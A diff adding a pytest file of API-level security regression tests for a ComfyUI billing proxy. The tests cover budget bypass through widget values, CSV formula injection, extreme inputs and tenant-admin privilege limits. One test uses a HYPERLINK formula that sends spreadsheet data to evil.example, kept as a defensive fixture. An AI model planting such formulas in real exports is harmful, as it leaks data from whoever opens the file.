@@ -1,0 +1,205 @@
+"""What the outside attack run found (issue 15), one API-level test per finding: each
+failed on the code before its fix. Served-process findings (slow clients, forwarded
+headers) are in test_served.py."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import httpx
+import pytest
+
+from tests.fixtures.app import OPERATOR, AdminApi, User, comfy_key
+from tests.fixtures.comfy import FakeComfyUI
+
+# An API node whose price is its `n` widget in USD (1..100), fed by a PrimitiveInt.
+PER_IMAGE = "PerImageApiNode"
+
+
+def _add_per_image_node(fake: FakeComfyUI) -> None:
+    hidden = fake.object_info["OpenAIDalle3"]["input"]["hidden"]
+    fake.object_info[PER_IMAGE] = {
+        **fake.object_info["OpenAIDalle3"],
+        "name": PER_IMAGE,
+        "input": {
+            "required": {"n": ["INT", {"default": 1, "min": 1, "max": 100}]},
+            "hidden": hidden,
+        },
+        "input_order": {"required": ["n"], "hidden": list(hidden)},
+        "price_badge": {
+            "engine": "jsonata",
+            "depends_on": {"widgets": [{"name": "n", "type": "INT"}], "inputs": []},
+            "expr": '{"type": "usd", "usd": widgets.n}',
+        },
+    }
+    fake.object_info["PrimitiveInt"] = {
+        **fake.object_info["EmptyLatentImage"],
+        "name": "PrimitiveInt",
+        "input": {"required": {"value": ["INT", {"default": 0}]}},
+        "input_order": {"required": ["value"]},
+        "output": ["INT"],
+        "output_is_list": [False],
+        "output_name": ["INT"],
+    }
+
+
+def per_image(n: object) -> dict[str, Any]:
+    save = {"class_type": "SaveImage", "inputs": {"images": ["1", 0], "filename_prefix": "p"}}
+    workflow: dict[str, Any] = {"1": {"class_type": PER_IMAGE, "inputs": {"n": n}}, "2": save}
+    if isinstance(n, list):
+        workflow["3"] = {"class_type": "PrimitiveInt", "inputs": {"value": 100}}
+    return {"prompt": workflow}
+
+
+@pytest.fixture
+async def alice(admin_api: AdminApi) -> User:
+    return await admin_api.user(await admin_api.tenant("acme"), "alice", comfy_key())
+
+
+async def operator_sets(client: httpx.AsyncClient, path: str, body: dict[str, Any]) -> None:
+    method = client.put if path.endswith("budget") else client.patch
+    response = await method(path, json=body, headers=OPERATOR)
+    assert response.status_code == 200, response.text
+
+
+# ----------------------------------------------------------- 1. budget bypass by widgets
+
+
+async def test_widget_values_cannot_slip_a_priced_node_past_a_budget(
+    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
+) -> None:
+    _add_per_image_node(fake_comfy)
+    user_budget = f"/admin/tenants/{alice.tenant.id}/users/{alice.id}/budget"
+    response = await client.put(
+        user_budget, json={"period": "month", "limit_credits": "300"}, headers=alice.tenant.admin
+    )
+    assert response.status_code == 200, response.text
+    # 100 USD = 21,100 credits, as a string ComfyUI reads as 100, or through a link.
+    for n in ("100", " 100", 100.0, ["3", 0]):
+        response = await client.post("/prompt", json=per_image(n), headers=alice.auth)
+        assert response.status_code == 402, (n, response.text)
+    # A value ComfyUI would refuse has no price: under a budget it is refused.
+    for n in ("lots", 1e30, -5, "1e400"):
+        response = await client.post("/prompt", json=per_image(n), headers=alice.auth)
+        assert response.status_code == 400, (n, response.text)
+        assert response.json()["error"]["type"] == "unpriced_nodes"
+    # One image (211 credits) fits.
+    assert (
+        await client.post("/prompt", json=per_image("1"), headers=alice.auth)
+    ).status_code == 200
+    assert fake_comfy.prompts_received()
+    assert len(fake_comfy.prompts_received()) == 1
+
+
+async def test_unpriced_nodes_under_a_budget_need_the_tenants_opt_in(
+    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
+) -> None:
+    del fake_comfy.object_info["OpenAIDalle3"]["price_badge"]
+    dalle = {"prompt": "x", "seed": 1, "quality": "hd", "style": "vivid", "size": "1024x1024"}
+    save = {"class_type": "SaveImage", "inputs": {"images": ["1", 0], "filename_prefix": "d"}}
+    body = {"prompt": {"1": {"class_type": "OpenAIDalle3", "inputs": dalle}, "2": save}}
+    tenant = f"/admin/tenants/{alice.tenant.id}"
+    # No budget: allowed (and flagged), as before.
+    assert (await client.post("/prompt", json=body, headers=alice.auth)).status_code == 200
+    await operator_sets(client, f"{tenant}/budget", {"period": "month", "limit_credits": "300"})
+    refused = await client.post("/prompt", json=body, headers=alice.auth)
+    assert refused.status_code == 400, refused.text
+    assert refused.json()["error"]["type"] == "unpriced_nodes"
+    await operator_sets(client, f"{tenant}/limits", {"unpriced_policy": "allow_always"})
+    assert (await client.post("/prompt", json=body, headers=alice.auth)).status_code == 200
+
+
+async def test_extreme_widget_values_are_never_a_5xx(
+    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
+) -> None:
+    _add_per_image_node(fake_comfy)
+    fake_comfy.object_info[PER_IMAGE]["input"]["required"]["n"] = ["INT", {"default": 1}]
+    for n in (10**30, 1e30, -5, -(10**30), "9" * 5000):
+        response = await client.post("/prompt", json=per_image(n), headers=alice.auth)
+        assert response.status_code < 500, (str(n)[:20], response.text)
+
+
+# ---------------------------------------------------------------- 5. formulas in CSV
+
+
+async def test_csv_exports_defuse_formulas(
+    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
+) -> None:
+    node_id = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    del fake_comfy.object_info["OpenAIDalle3"]["price_badge"]  # its id is listed as unpriced
+    dalle = {"prompt": "x", "seed": 1, "quality": "hd", "style": "vivid", "size": "1024x1024"}
+    save = {"class_type": "SaveImage", "inputs": {"images": [node_id, 0], "filename_prefix": "d"}}
+    body = {"prompt": {node_id: {"class_type": "OpenAIDalle3", "inputs": dalle}, "2": save}}
+    assert (await client.post("/prompt", json=body, headers=alice.auth)).status_code == 200
+    for path in ("prompts", "usage?group_by=node"):
+        response = await client.get(
+            f"/admin/tenants/{alice.tenant.id}/{path}",
+            headers={**alice.tenant.admin, "Accept": "text/csv"},
+        )
+        assert response.status_code == 200
+        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], cells
+    prompts = await client.get(
+        f"/admin/tenants/{alice.tenant.id}/prompts",
+        headers={**alice.tenant.admin, "Accept": "text/csv"},
+    )
+    assert "'" + node_id in next(csv.DictReader(io.StringIO(prompts.text)))["unpriced_nodes"]
+
+
+# ------------------------------------------------------------------ 6. 5xx from input
+
+
+@pytest.mark.parametrize(
+    "moment",
+    [
+        "0001-01-01T00:00:00+14:00",
+        "9999-12-31T23:59:59-14:00",
+        "0001-01-01T00:00:00",
+        "9999-12-31T23:59:59",
+    ],
+)
+async def test_extreme_dates_on_admin_reports_are_4xx(
+    client: httpx.AsyncClient, alice: User, moment: str
+) -> None:
+    base = f"/admin/tenants/{alice.tenant.id}"
+    for path in ("usage", "prompts"):
+        for name in ("from", "to"):
+            response = await client.get(
+                f"{base}/{path}", params={name: moment}, headers=alice.tenant.admin
+            )
+            assert response.status_code in (200, 422), (path, name, response.text)
+            if response.status_code == 422:
+                assert name in response.json()["error"]["message"]
+
+
+# ------------------------------------------------ 11. the operator's caps stay the operator's
+
+
+async def test_tenant_admins_cannot_lift_the_operators_caps(
+    client: httpx.AsyncClient, alice: User
+) -> None:
+    tenant, admin = f"/admin/tenants/{alice.tenant.id}", alice.tenant.admin
+    await operator_sets(client, f"{tenant}/budget", {"period": "month", "limit_credits": "100"})
+    await operator_sets(client, f"{tenant}/limits", {"max_prompts_per_minute": 5})
+    raise_it = {"period": "month", "limit_credits": "1000000"}
+    assert (await client.put(f"{tenant}/budget", json=raise_it, headers=admin)).status_code == 403
+    assert (await client.delete(f"{tenant}/budget", headers=admin)).status_code == 403
+    lifted = {"max_prompts_per_minute": 1000}
+    assert (await client.patch(f"{tenant}/limits", json=lifted, headers=admin)).status_code == 403
+    # Users' budgets and limits: the tenant admin's, within the tenant's.
+    user = f"{tenant}/users/{alice.id}"
+    over = await client.put(f"{user}/budget", json=raise_it, headers=admin)
+    assert over.status_code == 403
+    assert over.json()["error"]["type"] == "over_tenant_cap"
+    within = {"period": "day", "limit_credits": "10"}
+    assert (await client.put(f"{user}/budget", json=within, headers=admin)).status_code == 200
+    assert (await client.patch(f"{user}/limits", json=lifted, headers=admin)).status_code == 403
+    cleared = {"max_prompts_per_minute": None}
+    assert (await client.patch(f"{user}/limits", json=cleared, headers=admin)).status_code == 403
+    tighter = {"max_prompts_per_minute": 2}
+    assert (await client.patch(f"{user}/limits", json=tighter, headers=admin)).status_code == 200
+    # What the operator set still holds.
+    budget = (await client.get(f"{tenant}/budget", headers=admin)).json()
+    assert budget["limit_credits"] == "100.000"
